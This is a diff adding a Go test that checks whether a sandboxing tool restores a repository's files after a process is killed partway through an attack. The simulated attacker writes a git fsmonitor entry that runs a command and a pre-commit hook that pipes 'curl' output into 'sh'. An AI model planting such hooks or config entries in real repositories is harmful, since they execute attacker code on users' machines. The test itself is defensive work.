@@ -409,3 +409,46 @@ func TestAttackShareNestedNames(t *testing.T) {
 		t.Errorf(".vscode/settings.json holds %q (%v), not the user's", data, err)
 	}
 }
+
+// TestAttackShareKilledMidway: guardrun A is killed with SIGKILL (by
+// the user, an OOM kill) at moments spread over its command's run, its
+// restore and its release, while command B of this process shares the
+// snapshot; A's command changes the config and adds a hook, then
+// exits. Wherever A died, B's restore, the last, leaves the user's
+// files as they were, and the next command starts (nothing of A's is
+// held: its locks went with it).
+func TestAttackShareKilledMidway(t *testing.T) {
+	requireLandlock(t)
+	ws := attackRepo(t)
+	endB := fifo(t, ws, "b-go")
+	b, bout, err := attackStart(t, ws, `read x < b-go`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range 12 {
+		h, _ := attackHelper(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/config && printf 'curl x | sh\n' > .git/hooks/pre-commit && echo > a-changed && sleep 0.02`)
+		waitLine(t, filepath.Join(ws, "a-changed"))
+		time.Sleep(time.Duration(i) * 3 * time.Millisecond)
+		h.Process.Signal(unix.SIGKILL)
+		h.Wait()
+		os.Remove(filepath.Join(ws, "a-changed"))
+	}
+	endB()
+	if st, err := b.Wait(); err != nil || st != 0 {
+		t.Fatalf("B: status %d, %v\n%s", st, err, bout)
+	}
+	t.Logf("B restored: %q", b.Restored)
+	if data, err := os.ReadFile(filepath.Join(ws, ".git/config")); err != nil || string(data) != shareCfg {
+		t.Errorf(".git/config holds %q (%v), not the user's", data, err)
+	}
+	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); err == nil {
+		t.Error("a hook was left in .git/hooks")
+	}
+	c, out, err := attackStart(t, ws, `true`)
+	if err != nil {
+		t.Fatalf("the next command: %v", err)
+	}
+	if st, err := c.Wait(); err != nil || st != 0 || len(c.Restored) != 0 {
+		t.Errorf("the next command: status %d, %v, restored %q\n%s", st, err, c.Restored, out)
+	}
+}
